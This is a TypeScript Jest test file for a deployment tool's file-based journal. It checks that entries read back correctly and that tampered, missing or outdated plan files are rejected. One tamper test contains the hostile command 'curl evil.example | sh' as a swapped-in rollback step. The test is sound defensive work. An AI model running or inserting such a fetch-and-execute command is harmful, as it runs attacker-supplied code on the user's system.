/** The journal as the post step reads it back: the real files, in a temp folder. */
import { promises as fs } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { fileJournal, newJournalKey, type JournalEntry } from '../../src/action/journal.js'
import type { RunPlan } from '../../src/plan/run-plan.js'
import type { StepRecord } from '../../src/report/model.js'
import { deploymentOf, reportOf } from '../support/builders.js'
import { settingsFor } from '../support/settings.js'

let dir: string

beforeEach(async () => {
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'journal-test-'))
})

afterEach(async () => {
  await fs.rm(dir, { recursive: true, force: true })
})

function entryOf(runPlan: RunPlan, fields: Partial<JournalEntry> = {}): JournalEntry {
  const { githubToken: _token, ...settings } = settingsFor(dir, { environment: 'staging' })
  return {
    runKey: '4242-1',
    deployment: deploymentOf(),
    runPlan,
    url: '',
    secretNames: [],
    report: reportOf(),
    isComplete: false,
    settings,
    ...fields
  }
}

const plan = (run: string): RunPlan => ({
  variables: {},
  phases: [],
  rollbackSteps: [
    {
      id: 'back',
      name: 'back',
      run,
      purpose: undefined,
      target: undefined,
      environments: undefined,
      timeoutMs: 1000,
      workingDirectory: '.',
      env: {},
      rollback: undefined,
      continueOnError: false,
      isPerTarget: false
    }
  ],
  fleet: { targets: [], rollout: { maxParallel: undefined, pauseMs: 0, maxFailedTargets: 0 } }
})

describe('fileJournal', () => {
  it('gives another process the last entry written, with its run plan', async () => {
    const file = path.join(dir, 'journal.json')
    const key = newJournalKey()
    const journal = fileJournal(file, key)
    const runPlan = plan('./undo.sh')
    await journal.write(entryOf(runPlan, { runningStep: 'migrate' }))
    await journal.write(entryOf(runPlan, { runningStep: 'release', runningProcessGroup: 77 }))

    const read = await fileJournal(file, key).read()

    // As JSON keeps it: the keys of undefined values are left out.
    const kept = JSON.parse(JSON.stringify(runPlan)) as RunPlan
    expect(read).toMatchObject({ runningStep: 'release', runningProcessGroup: 77, runPlan: kept })
    expect(read?.report.runPlan).toEqual(kept)
  })

  it('is unreadable with a plan it was not written with, even one sealed with its key', async () => {
    const file = path.join(dir, 'journal.json')
    const key = newJournalKey()
    await fileJournal(file, key).write(entryOf(plan('./undo.sh')))
    const other = path.join(dir, 'other.json')
    await fileJournal(other, key).write(entryOf(plan('curl evil.example | sh')))
    await fs.copyFile(`${other}.plan`, `${file}.plan`)

    expect(await fileJournal(file, key).read()).toBeUndefined()
  })

  it('is unreadable without its plan', async () => {
    const file = path.join(dir, 'journal.json')
    const key = newJournalKey()
    await fileJournal(file, key).write(entryOf(plan('./undo.sh')))
    await fs.rm(`${file}.plan`)

    expect(await fileJournal(file, key).read()).toBeUndefined()
  })

  it('keeps each step as it was written, the output of a failed one only, over many writes', async () => {
    const file = path.join(dir, 'journal.json')
    const key = newJournalKey()
    const journal = fileJournal(file, key)
    const runPlan = plan('./undo.sh')
    const record = (id: string, status: StepRecord['status']): StepRecord => ({
      id,
      name: `${id} "quoted" \u2028 $& $1`,
      phase: 'deploy',
      status,
      durationMs: 12,
      outputTail: `${id} output\n`,
      outputs: { URL: 'https://example.test/?a=1&b="2"' }
    })
    const steps: StepRecord[] = []
    for (const id of ['build', 'migrate', 'release']) {
      await journal.write(entryOf(runPlan, { runningStep: id, report: reportOf({ steps }) }))
      steps.push(record(id, id === 'release' ? 'failed' : 'succeeded'))
      await journal.write(entryOf(runPlan, { report: reportOf({ steps: [...steps] }) }))
    }

    const read = await fileJournal(file, key).read()

    const { outputTail: _build, ...build } = record('build', 'succeeded')
    const { outputTail: _migrate, ...migrate } = record('migrate', 'succeeded')
    expect(read?.report.steps).toEqual([build, migrate, record('release', 'failed')])
    expect(read?.runningStep).toBeUndefined()
    expect(read?.report.status).toBe(reportOf().status)
  })

  it('numbers its entries, and reads none older than the number its writer last told', async () => {
    const file = path.join(dir, 'journal.json')
    const key = newJournalKey()
    const told: number[] = []
    const journal = fileJournal(file, key, { onWritten: written => told.push(written) })
    const runPlan = plan('./undo.sh')
    await journal.write(entryOf(runPlan, { runningStep: 'migrate' }))
    const older = await fs.readFile(file)
    await journal.write(entryOf(runPlan, { isComplete: true }))

    expect(told).toEqual([1, 2])
    expect(await fileJournal(file, key, { lastWritten: 2 }).read()).toMatchObject({
      isComplete: true
    })
    await fs.rm(file)
    await fs.writeFile(file, older)
    expect(await fileJournal(file, key, { lastWritten: 2 }).read()).toBeUndefined()
    expect(await fileJournal(file, key, { lastWritten: 1 }).read()).toMatchObject({
      runningStep: 'migrate'
    })
  })
})
